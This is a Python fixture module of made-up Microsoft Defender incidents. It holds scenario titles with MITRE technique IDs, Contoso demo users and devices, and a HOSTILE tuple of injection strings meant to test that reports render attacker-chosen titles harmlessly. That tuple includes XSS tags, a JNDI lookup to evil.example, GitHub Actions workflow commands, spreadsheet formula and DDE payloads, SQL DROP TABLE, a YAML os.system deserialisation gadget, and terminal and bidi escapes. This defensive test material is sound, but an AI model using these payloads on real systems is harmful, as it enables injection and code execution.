"""What the made-up tenant talks about. Names follow the fictitious companies of Microsoft's pages."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True, slots=True)
class Scenario:
    title: str
    severity: str
    category: str
    technique: str
    service: str
    detection: str
    product: str
    text: str

    @property
    def subject(self) -> str:
        """The title without the device or user that it names, and what leads up to them."""
        words = self.title.partition(" {")[0].split()
        while words[-1] in _LEADING:
            words.pop()
        return " ".join(words)


_LEADING: Final = frozenset({"on", "of", "from", "by", "to", "against", "delivered"})

_MDE: Final = (
    "microsoftDefenderForEndpoint",
    "microsoftDefenderForEndpoint",
    "Microsoft Defender for Endpoint",
)
_MDO: Final = (
    "microsoftDefenderForOffice365",
    "microsoftDefenderForOffice365",
    "Microsoft Defender for Office 365",
)
_MDI: Final = (
    "microsoftDefenderForIdentity",
    "microsoftDefenderForIdentity",
    "Microsoft Defender for Identity",
)
_IDP: Final = (
    "azureAdIdentityProtection",
    "azureAdIdentityProtection",
    "Microsoft Entra ID Protection",
)
_MDA: Final = (
    "microsoftDefenderForCloudApps",
    "cloudAppSecurity",
    "Microsoft Defender for Cloud Apps",
)
_SEN: Final = ("microsoftSentinel", "scheduledAlerts", "Microsoft Sentinel")

SCENARIOS: Final = (
    Scenario(
        "Ransomware behaviour on {device}",
        "high",
        "Impact",
        "T1486",
        *_MDE,
        "Many files were renamed and encrypted within minutes.",
    ),
    Scenario(
        "Credential dumping from LSASS on {device}",
        "high",
        "CredentialAccess",
        "T1003.001",
        *_MDE,
        "A process read the memory of lsass.exe.",
    ),
    Scenario(
        "Phishing campaign against Finance delivered to {user}",
        "medium",
        "InitialAccess",
        "T1566.002",
        *_MDO,
        "Messages with links to a credential form were delivered before they were blocked.",
    ),
    Scenario(
        "Impossible travel of {user}",
        "medium",
        "InitialAccess",
        "T1078.004",
        *_IDP,
        "Sign-ins from two countries, too far apart for the time between them.",
    ),
    Scenario(
        "Mass download by {user}",
        "medium",
        "Exfiltration",
        "T1530",
        *_MDA,
        "Far more files than usual were downloaded from SharePoint.",
    ),
    Scenario(
        "Suspicious PowerShell command line on {device}",
        "medium",
        "Execution",
        "T1059.001",
        *_MDE,
        "PowerShell ran an encoded command from an Office process.",
    ),
    Scenario(
        "Kerberoasting from {device}",
        "high",
        "CredentialAccess",
        "T1558.003",
        *_MDI,
        "Service tickets for many accounts were requested at once.",
    ),
    Scenario(
        "Inbox rule forwards mail of {user} outside",
        "medium",
        "Collection",
        "T1114.003",
        *_MDO,
        "A rule sends copies to an external mailbox.",
    ),
    Scenario(
        "Password spray against {user} and 41 others",
        "high",
        "CredentialAccess",
        "T1110.003",
        *_SEN,
        "One password was tried against many accounts from one network.",
    ),
    Scenario(
        "Unwanted software on {device}",
        "low",
        "UnwantedSoftware",
        "T1204",
        *_MDE,
        "A bundled installer was found and removed.",
    ),
    Scenario(
        "Malware prevented on {device}",
        "informational",
        "Malware",
        "T1204.002",
        *_MDE,
        "A known trojan was blocked before it ran.",
    ),
    Scenario(
        "Port scan from {device}",
        "low",
        "Discovery",
        "T1046",
        *_MDE,
        "Many ports of neighbours were probed. The vulnerability scanner does that on Sundays.",
    ),
    Scenario(
        "Consent to an unverified application by {user}",
        "medium",
        "Persistence",
        "T1528",
        *_MDA,
        "An application without a verified publisher got access to mail.",
    ),
    Scenario(
        "USB worm on {device}",
        "medium",
        "LateralMovement",
        "T1091",
        *_MDE,
        "A shortcut on a removable drive started an unknown library.",
    ),
    Scenario(
        "Anomalous token use by {user}",
        "high",
        "CredentialAccess",
        "T1550.001",
        *_IDP,
        "A session token was used from a device that never signed in.",
    ),
    Scenario(
        "Data sent to a personal cloud by {user}",
        "low",
        "Exfiltration",
        "T1567.002",
        *_MDA,
        "A labelled document was uploaded to private storage.",
    ),
    Scenario(
        "Remote execution through PsExec on {device}",
        "medium",
        "LateralMovement",
        "T1569.002",
        *_MDE,
        "A service was installed remotely and removed a minute later.",
    ),
    Scenario(
        "Business e-mail compromise: invoice thread of {user} taken over",
        "high",
        "Collection",
        "T1586.002",
        *_MDO,
        "A reply with changed bank details was sent in a running conversation.",
    ),
)

DEVICES: Final = (
    "FIN-LT-014",
    "hr-w11-203",
    "SRV-SQL-02",
    "DC-EU-01",
    "dev-mac-077",
    "KIOSK-5",
    "w11pro-test",
    "SRV-FILE-03",
    "lab-pentest-1",
    "CEO-LT-001",
)
USERS: Final = (
    "adele.vance",
    "alex.wilber",
    "diego.siciliani",
    "grady.archie",
    "isaiah.langer",
    "johanna.lorenz",
    "lynne.robbins",
    "megan.bowen",
    "nestor.wilke",
    "patti.fernandez",
)
ANALYSTS: Final = (
    "kai@contoso.com",
    "mona@contoso.com",
    "omar@contoso.com",
    "soc-tier2@contoso.com",
    "Priya@Contoso.com",
)
TAGS: Final = (
    "needs-triage",
    "vip",
    "pentest-2026",
    "finance",
    "escalated",
    "false-alarm-candidate",
    "Ransomware",
    "wave-2",
)
SYSTEM_TAGS: Final = ("Defender Experts", "Critical asset", "Automatic attack disruption")
COMMENTS: Final = (
    "Called the user; waiting for an answer.",
    "Device isolated.",
    "Same pattern as last week.",
    "Handed over to tier 2.",
)

HOSTILE: Final = (
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x1b[2J on FIN-LT-014",
    "::error file=plan.yml,line=1::injected by a title",
    "##[group]hidden ##[endgroup] ::set-output name=approved::true",
    "| a | b |\n| --- | --- |\n| # heading | **bold** `code` |",
    "<script>alert(1)</script><img src=x onerror=alert(2)> &amp; <!-- -->",
    "[approve](https://evil.example) ![x](https://evil.example/x.png) https://evil.example",
    "@contoso/admins please merge, fixes #1, GH-2, @kai",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200fright to left",
    "first line\r\nsecond line\nthird\u2028fourth\u2029fifth",
    "very long " + "0123456789" * 400,
    "\U0001f525\U0001f469\u200d\U0001f4bb fire \u00fc\u0308 \u4e2d\u6587 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "zero\u200bwidth\u200c\u200d\ufeff join\u00aders",
    "null\x00byte and \x07bell and \x7f and \x9b31m",
    "{{ 7*7 }} ${{ secrets.GITHUB_TOKEN }} ${jndi:ldap://evil.example/a} %s %n",
    '=HYPERLINK("https://evil.example","open")',
    "+cmd|' /C calc'!A0",
    "'; DROP TABLE incidents; --",
    "```\n::stop-commands::x\n``` </details></table>",
    "...\n---\nkey: !!python/object/apply:os.system ['id']",
    "   ",
)
"""Titles, tags and owners as an attacker would choose them: none may act in any report."""
